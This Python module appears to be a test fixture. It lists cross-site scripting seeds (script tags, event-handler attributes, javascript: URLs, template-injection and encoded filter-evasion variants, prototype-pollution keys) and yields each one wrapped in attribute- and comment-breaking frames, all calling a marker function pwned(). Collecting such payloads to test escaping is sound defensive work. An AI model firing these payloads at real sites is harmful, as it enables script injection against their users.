"""Texts that would run as a script if anybody took them for more than text; each calls pwned()."""

from __future__ import annotations

from collections.abc import Iterator

SEEDS = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()>",
    "<body onload=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<a href=javascript:pwned()>x</a>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()>",
    "<math><mi xlink:href=javascript:pwned()>",
    "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>",
    "<style>@import'javascript:pwned()'</style>",
    "<marquee onstart=pwned()>",
    "<b onmouseover=pwned()>x</b>",
    "<form action=javascript:pwned()><input>",
    "<base href=javascript:pwned()//>",
    "<meta http-equiv=refresh content=0;x>",
    "<template><script>pwned()</script>",
    "<noscript><img src=x onerror=pwned()>",
    "javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "{pwned()}",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "{@html '<img src=x onerror=pwned()>'}",
    "<%= pwned() %>",
    "';pwned();//",
    '";pwned();//',
    "`;pwned();//",
    "</script><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</text><script>pwned()</script>",
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()",
    "\\x3cscript\\x3epwned()",
    "<scr<script>ipt>pwned()",
    "<ScRiPt>pwned()</sCrIpT>",
    "<img/src/onerror=pwned()>",
    "<x contenteditable onblur=pwned()>",
    "<isindex type=image onerror=pwned()>",
    "onerror=pwned() src=x",
    "__proto__",
    "constructor",
    "[link](javascript:pwned())",
)
FRAMES = ("{}", '">{}', "'>{}", "x {}<!--")


def payloads() -> Iterator[str]:
    """Yield all of them: each as it is, and out of an attribute or a comment."""
    for frame in FRAMES:
        for seed in SEEDS:
            yield frame.replace("{}", seed)
